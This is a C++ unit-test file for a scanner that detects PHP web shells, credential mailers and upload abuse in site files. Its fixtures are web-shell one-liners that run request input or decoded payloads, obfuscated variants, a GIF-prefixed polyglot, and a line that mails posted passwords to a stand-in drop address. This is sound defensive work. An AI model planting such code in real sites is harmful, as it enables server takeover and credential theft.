// SPDX-License-Identifier: Apache-2.0
#include "sweep/host/code/php.h"

#include <gtest/gtest.h>

namespace abate::sweep {
namespace {

using What = PhpFlow::What;

std::vector<What> flows(std::string_view code) {
  std::vector<What> found;
  for (const PhpFlow& flow : php_flows(php_tokens(code))) found.push_back(flow.what);
  return found;
}
using Is = std::vector<What>;

TEST(Php, strings_are_data_and_comments_are_nothing) {
  EXPECT_EQ(flows("<?php $a = 'eval(base64_decode($_POST[1]))'; // eval($_GET[1])\n/* system($_GET[1]) */ # "
                  "eval($_GET['x'])\n"),
            Is{});
  EXPECT_EQ(flows("<p>eval($_POST[1])</p>"), Is{});
  EXPECT_EQ(flows("<?php $x = <<<END\neval($_GET[1]);\nEND;\n"), Is{});
}

TEST(Php, what_is_unpacked_and_run_is_seen) {
  EXPECT_EQ(flows("<?php eval(gzinflate(base64_decode('AAAA')));"), Is{What::decoded_run});
  EXPECT_EQ(flows("<?php @EVAL ( /* x */ Base64_Decode('AAAA') );"), Is{What::decoded_run});
  EXPECT_EQ(flows("<?php $a = base64_decode('x'); $b = 'x' . $a; eval($b);"), Is{What::decoded_run});
  EXPECT_EQ(flows("<?php $f = 'base'.'64_decode'; $c = $f('AAA'); eval($_POST[$c]);").back(), What::request_run);
  EXPECT_EQ(flows("<?php preg_replace('/.*/e', base64_decode('x'), '');"), Is{What::decoded_run});
  EXPECT_EQ(flows("GIF89a<?php assert(str_rot13('cucvasb'));"), Is{What::decoded_run});
}

TEST(Php, what_the_visitor_sends_and_is_run_is_seen) {
  EXPECT_EQ(flows("<?php system($_GET['c']);"), Is{What::request_run});
  EXPECT_EQ(flows("<?php $c = $_REQUEST['c'] ?? ''; echo shell_exec(\"$c 2>&1\");"), Is{What::request_run});
  EXPECT_EQ(flows("<?php echo `$_GET[c]`;"), Is{What::request_run});
  EXPECT_EQ(flows("<?php $_GET['f']($_POST['a']);"), Is{What::request_call});
  EXPECT_EQ(flows("<?php eval(file_get_contents('php://input'));"), Is{What::request_run});
  EXPECT_EQ(flows("<?php $f = strrev('metsys'); $f($_GET['c']);"), Is{What::built_call});
}

TEST(Php, ordinary_code_is_left_alone) {
  EXPECT_EQ(flows("<?php $b = base64_decode($s); echo unserialize($b);"), Is{});
  EXPECT_EQ(flows("<?php exec('convert ' . escapeshellarg($_POST['f']));"), Is{});
  EXPECT_EQ(flows("<?php assert($x instanceof Y); $this->exec($_POST['q']); $db::exec($_GET['a']);"), Is{});
  EXPECT_EQ(flows("<?php function system($a) { return 1; }"), Is{});
  EXPECT_EQ(flows("<?php $n = intval($_GET['n']); system(\"nice -n $n true\");"), Is{});
  EXPECT_EQ(flows("<?php eval('return ' . $expr . ';');"), Is{});
}

TEST(Php, uploads_writes_mails_and_secrets_are_told_apart) {
  EXPECT_EQ(flows("<?php move_uploaded_file($_FILES['f']['tmp_name'], 'x/' . $_FILES['f']['name']);"),
            Is{What::upload_kept});
  EXPECT_EQ(flows("<?php file_put_contents($_POST['n'], $_POST['d']);"), Is{What::request_write});
  EXPECT_EQ(flows("<?php foreach (explode(\"\\n\", $_POST['l']) as $t) {} $to = $_POST['to']; mail($to, 's', 'b');"),
            Is{What::mail_to_request});
  EXPECT_EQ(
      flows("<?php $m = \"u: \" . $_POST['user'] . \" p: \" . $_POST['password']; mail('drop@example.test', 'x', $m);"),
      Is{What::secrets_sent});
  EXPECT_EQ(flows("<?php if (password_verify($_POST['password'], $h)) login();"), Is{});
}

TEST(Php, lines_are_counted_and_odd_ends_survive) {
  EXPECT_EQ(php_flows(php_tokens("<?php\n\n\neval(base64_decode('x'));")).front().line, 4U);
  for (const std::string_view code :
       {"<?php eval(", "<?php $a[", "<?php 'x", "<?php <<<A", "<?php $_GET[", "<?", "<?php \\", "<?php $", "<?php `"}) {
    for (std::size_t cut = 0; cut <= code.size(); ++cut) static_cast<void>(flows(code.substr(0, cut)));
  }
  EXPECT_TRUE(holds_php("x<?PHP "));
  EXPECT_FALSE(holds_php("<?xml version='1.0'?>"));
}

TEST(Php, a_zip_is_read_as_php_only_where_the_server_would_run_it) {
  constexpr std::string_view kZip = "PK\3\4kit/x.php<?php eval($_POST['k']);";
  EXPECT_FALSE(php_file("/srv/site.zip", kZip).is_php);
  EXPECT_TRUE(php_file("/srv/site.php", kZip).is_php);
}

}  // namespace
}  // namespace abate::sweep
